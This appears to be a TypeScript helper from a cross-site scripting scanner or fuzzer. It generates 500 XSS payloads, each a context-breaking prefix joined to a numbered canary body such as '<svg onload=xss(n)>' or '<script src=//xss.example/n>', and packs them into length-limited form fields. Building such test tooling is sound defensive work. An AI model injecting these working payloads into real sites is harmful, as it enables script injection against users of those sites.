/** What ends the place a text stands in, on the way out of it. */
const openings = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '`>',
  '\\">',
  '&quot;>',
  '\u2028',
  '{{',
  '${',
  '%22%3E',
  '"}',
  '\\u003c/script>',
  '</noscript>',
  '</template>',
]

/** What then runs, or asks a host of others, where it is taken for more than text. */
const bodies: ((n: number) => string)[] = [
  (n) => `<script>xss(${n})</script>`,
  (n) => `<svg onload=xss(${n})>`,
  (n) => `<img src onerror=xss(${n})>`,
  (n) => `<body onload=xss(${n})>`,
  (n) => `<iframe srcdoc="<script>parent.xss(${n})</script>">`,
  (n) => `<details open ontoggle=xss(${n})>`,
  (n) => `<input autofocus onfocus=xss(${n})>`,
  (n) => `<video src onerror=xss(${n})>`,
  (n) => `<audio src onerror=xss(${n})>`,
  (n) => `<a href=javascript:xss(${n})>a</a>`,
  (n) => `javascript:xss(${n})`,
  (n) => `data:text/html,<script>xss(${n})</script>`,
  (n) => ` onmouseover=xss(${n}) `,
  (n) => `" autofocus onfocus=xss(${n}) "`,
  (n) => `<style onload=xss(${n})>`,
  (n) => `<object data=javascript:xss(${n})>`,
  (n) => `<embed src=javascript:xss(${n})>`,
  (n) => `<meta http-equiv=refresh content=0;javascript:xss(${n})>`,
  (n) => `<link rel=stylesheet href=//xss.example/${n}>`,
  (n) => `<script src=//xss.example/${n}></script>`,
  (n) => `<button formaction=javascript:xss(${n})>`,
  (n) => `<math><a xlink:href=javascript:xss(${n})>`,
  (n) => `<svg><script>xss(${n})</script>`,
  (n) => `<img src=//xss.example/${n}>`,
  (n) => `);xss(${n});//`,
]

/** Five hundred different ones; the first are as mixed as all of them. */
export const payloads: string[] = Array.from(
  { length: openings.length * bodies.length },
  (_, n) => {
    const opening = openings[(n + Math.floor(n / bodies.length)) % openings.length]
    return `${opening}${bodies[n % bodies.length]?.(n)}`
  },
)

interface Feeding {
  /** The field takes no white space. */
  unspaced: boolean
  wrap: (text: string) => string
}

/** Takes payloads in turn, as many at once as a field has room for, until it has had them all. */
export class Feed {
  private next = 0
  private readonly all: string[]
  private readonly room: number
  private readonly wrap: (text: string) => string
  private readonly unspaced: boolean

  constructor(
    all: string[],
    room: number,
    { unspaced = false, wrap = (text: string) => text }: Partial<Feeding> = {},
  ) {
    this.wrap = wrap
    this.unspaced = unspaced
    this.room = room - wrap('').length
    this.all = all.filter(
      (payload) => payload.length <= this.room && !(unspaced && /[\s@]/.test(payload)),
    )
  }

  get isEmpty(): boolean {
    return this.next >= this.all.length
  }

  get count(): number {
    return this.all.length
  }

  /** Where all have been through, the last ones again. */
  take(): string {
    if (this.isEmpty) this.next = Math.max(0, this.all.length - 1)
    let text = this.all[this.next++] ?? ''
    while (this.next < this.all.length) {
      const more = `${text}${this.unspaced ? ',' : ' '}${this.all[this.next]}`
      if (more.length > this.room) break
      text = more
      this.next++
    }
    return this.wrap(text)
  }
}
